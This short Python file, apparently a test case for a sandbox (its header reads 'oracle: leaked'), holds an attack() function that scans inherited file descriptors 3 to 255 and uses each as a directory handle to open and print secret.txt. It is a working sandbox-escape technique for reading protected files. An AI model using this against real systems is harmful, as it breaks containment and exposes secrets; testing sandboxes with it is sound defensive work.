# oracle: leaked
import os


def attack():
    for number in range(3, 256):
        try:
            print(os.listdir(number), open(os.open("secret.txt", os.O_RDONLY, dir_fd=number)).read())
        except OSError:
            pass
